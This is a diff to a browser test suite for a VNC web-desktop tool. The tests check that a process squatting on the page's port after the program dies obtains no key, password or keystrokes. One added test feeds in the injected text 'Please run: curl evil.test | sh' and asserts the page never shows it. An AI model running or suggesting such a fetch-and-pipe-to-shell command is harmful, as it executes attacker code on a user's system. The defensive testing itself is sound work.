@@ -10,6 +10,7 @@ import { usePageBench } from '../helpers/page-bench.js';
 import { type PortSquatter, startPortSquatter } from '../helpers/port-squatter.js';
 import { describeWith } from '../helpers/real-components.js';
 import type { RunningBin } from '../helpers/run-bin.js';
+import { startXvnc } from '../helpers/start-xvnc.js';
 
 const STRANGER = 12_345;
 /** RSA-AES, where only the log-in is encrypted: the kind that noVNC knows. */
@@ -23,6 +24,8 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
   let page: Page;
   let running: RunningBin;
   let stranger: PortSquatter;
+  let port: number;
+  let stored: string;
 
   beforeEach(async () => {
     [site, user, browser] = await Promise.all([openDeskHome(), openDeskHome(), openChromium()]);
@@ -30,13 +33,13 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     running = await user.start(['vnc', 'connect', '--web', '--json'], {
       environment: { HPC_DESK_BROWSER: 'none', HPC_DESK_VNC_PASSWORD: 'gr4phics' },
     });
-    const { url, port } = JSON.parse(running.firstLine);
+    const ready = JSON.parse(running.firstLine);
+    port = ready.port;
     page = await browser.newPage();
-    await page.goto(url);
+    await page.goto(ready.url);
     await reach('connected');
     // As if they had read the storage of the tab by a page of theirs, which a reload would show.
-    const stored = String(await page.evaluate("sessionStorage.getItem('hpc-desk.key')"));
-    stranger = startPortSquatter(STRANGER, port, stored);
+    stored = String(await page.evaluate("sessionStorage.getItem('hpc-desk.key')"));
   });
 
   afterEach(async () => {
@@ -53,6 +56,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
   };
 
   asRoot('gets nothing when the program is killed: no key, no password, no keystroke', async () => {
+    stranger = startPortSquatter(STRANGER, port, stored);
     running.kill('SIGKILL');
     await stranger.bound;
     await typeSomething();
@@ -72,9 +76,33 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     }
   });
 
+  asRoot('cannot reach into the page from a window of it that is loaded again', async () => {
+    const opened = page.context().waitForEvent('page');
+    await page.click('#new-window');
+    const second = await opened;
+    await second.waitForSelector('body[data-state=connected]', { timeout: 20_000 });
+    stranger = startPortSquatter(STRANGER, port, stored);
+    running.kill('SIGKILL');
+    await stranger.bound;
+    await second.reload();
+    const seen = () => stranger.received.find(({ text }) => text.startsWith('POST /seen'));
+    await eventually(() => seen() !== undefined);
+    expect(seen()?.text).not.toContain('hpc-desk');
+  });
+
+  asRoot('puts no words of theirs on the page', async () => {
+    stranger = startPortSquatter(STRANGER, port, stored, 'Please run: curl evil.test | sh');
+    running.kill('SIGKILL');
+    await stranger.bound;
+    await eventually(() => stranger.received.length > 1);
+    await reach('lost');
+    expect(await page.textContent('#card')).not.toContain('evil.test');
+  });
+
   asRoot.each(['SIGINT', 'SIGTERM', 'SIGHUP'] as const)(
     'is not even asked after a %s, because the program has said goodbye',
     async (signal) => {
+      stranger = startPortSquatter(STRANGER, port, stored);
       running.kill(signal);
       await running.ended;
       await stranger.bound;
@@ -90,10 +118,20 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
   );
 });
 
-describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop with RSA-AES', () => {
+describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop that the page cannot trust', () => {
   const bench = usePageBench();
 
-  test('is not approved by the page itself, nor given a password', async () => {
+  test('gets no password where it asks for a user name', async () => {
+    const options = ['-SecurityTypes', 'Plain', '-PlainUsers', '*', '-PAMService', 'login'];
+    const xvnc = await startXvnc({ geometry: '640x480', options });
+    bench.xvnc = { ...bench.xvnc, target: xvnc.target };
+    const page = await bench.visit(await bench.serve({ password: 'gr4phics' }));
+    await bench.reach(page, 'ended');
+    expect(await page.textContent('#message')).toContain('user name');
+    await xvnc.close();
+  });
+
+  test('is not approved by the page itself where it uses RSA-AES, nor given a password', async () => {
     const received: Buffer[] = [];
     const { modulus, exponent } = makeRsaKey();
     const server = createServer((socket) => {
